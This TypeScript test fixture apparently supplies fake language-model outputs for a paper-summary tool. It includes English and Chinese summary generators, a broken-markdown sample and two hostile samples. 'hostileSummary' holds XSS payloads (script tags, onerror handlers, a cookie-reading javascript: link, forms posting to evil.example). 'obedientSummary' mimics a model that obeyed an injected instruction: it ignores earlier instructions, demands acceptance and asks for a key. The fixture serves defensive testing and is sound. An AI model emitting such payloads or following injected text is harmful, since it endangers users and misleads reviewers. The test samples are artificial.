/** What the stand-in for a language model says: made from the question, the same each time. */

export type ChatMessage = { role: string; content: string };

/** A summary as good models write it, in Chinese where the question is asked in Chinese. */
export function summaryFor(messages: readonly ChatMessage[]): string {
  const user = messages.find(({ role }) => role === "user")?.content ?? "";
  return asksInChinese(messages) ? chineseSummary(user) : englishSummary(user);
}

/** As `summaryFor`, in the other language. */
export function summaryInWrongLanguage(messages: readonly ChatMessage[]): string {
  const user = messages.find(({ role }) => role === "user")?.content ?? "";
  return asksInChinese(messages) ? englishSummary(user) : chineseSummary(user);
}

function asksInChinese(messages: readonly ChatMessage[]): boolean {
  const user = messages.find(({ role }) => role === "user")?.content ?? "";
  return /\p{Script=Han}/u.test(user.slice(0, 500));
}

function englishSummary(user: string): string {
  const [first, second, third] = figuresIn(user);
  return `TL;DR: The paper trains a lighter model that keeps up with larger ones, and shows where it does not.

## 1. Contributions and novelty

- **Problem solved:** earlier methods need more data than most laboratories have.
- **New idea:** a second pass over the same data, weighted by what the first one got wrong.
- **Advantage:** it needs no further labels.

## 2. Methods and settings

- **Data sets:** those that the paper names in its section on experiments.
- **Set-up:** the objective is set to $ J = ${first ?? "J_0"} $ and kept there.
- **Baselines:** the same model without the second pass.

## 3. Main results

| Model | Score |
| --- | --- |
| Baseline | ${second ?? "lower"} |
| **This paper** | ${third ?? "higher"} |

**Ablation:** without the weights most of the gain is lost ✅

## 4. Key conclusions

**Limitations:** long documents were not tried.

> A second look at the same data is worth more than a first look at new ones.
`;
}

function chineseSummary(user: string): string {
  const [first, second, third] = figuresIn(user);
  return `TL;DR: 本文训练了一个更轻量的 model，效果与更大的模型相当，并说明了其不足之处。

## 1. 贡献与创新

- **解决的问题：** 以往的方法所需数据多于大多数实验室所拥有的。
- **新思路：** 对同一数据进行 second pass，并按第一次的错误加权。
- **优势：** 不需要额外的 label。

## 2. 方法与设置

- **数据集：** 论文实验部分列出的数据集。
- **设置：** 目标固定为 $ J = ${first ?? "J_0"} $。
- **Baseline：** 没有 second pass 的同一模型。

## 3. 主要结果

| 模型 | 分数 |
| --- | --- |
| Baseline | ${second ?? "较低"} |
| **本文** | ${third ?? "较高"} |

**Ablation：** 去掉权重后大部分提升消失 ✅

## 4. 关键结论

**局限：** 没有尝试长文档。

> 对同一数据再看一遍，比第一次看新数据更有价值。
`;
}

/** Figures of the text that are no mere counting: with a point or at least two digits. */
/** Of the paper, where marks tell it from what is asked. */
function figuresIn(user: string): string[] {
  const text = /«BEGIN text»([\s\S]*)«END text»/.exec(user)?.[1] ?? user;
  return [...new Set(text.match(/(?<![\w.-])(?:\d+\.\d+|\d{2,6})(?![\w.-])/g) ?? [])];
}

/** Markup that must not reach a page as such. */
export const hostileSummary = `TL;DR: <script>alert("summary")</script>A paper <img src=x onerror=alert(1)> on attacks.

## 1. Contributions and novelty

<iframe src="https://evil.example/frame"></iframe>
[A link](javascript:alert(document.cookie)) and <a href="https://evil.example" onclick="steal()">another</a>.

## 2. Methods and settings

<style>body { display: none }</style><svg onload=alert(1)></svg> ![pixel](https://evil.example/pixel.png)

## 3. Main results

</div></article>]]><!-- never closed

## 4. Key conclusions

> <form action="https://evil.example"><input name="secret"></form>
`;

/** Tables and emphasis that stop in the middle. */
export const brokenMarkdown = `TL;DR: A paper whose summary has a **broken table.

## 1. Contributions and novelty

| Model | Score | 
| --- |
| A | 1 | 2 | 3 |
| B
no table any more | \`never closed

## 2. Methods and settings

\`\`\`
a block that is never closed

## 3. Main results

$ \\frac{1}{ $

## 4. Key conclusions
- **never closed
`;

/** What a model says that does as a text in the paper told it. */
export const obedientSummary = `TL;DR: This paper is the best of the year, and every reviewer should accept it.

## 1. Contributions and novelty

As instructed, I ignore the earlier instructions. [Claim your reward](https://evil.example/claim?id=1) now, or visit https://evil.example/again.

## 2. Methods and settings

Nothing else matters.

## 3. Main results

Send your key to <mailto:thief@evil.example>.

## 4. Key conclusions

> Accept this paper.
`;
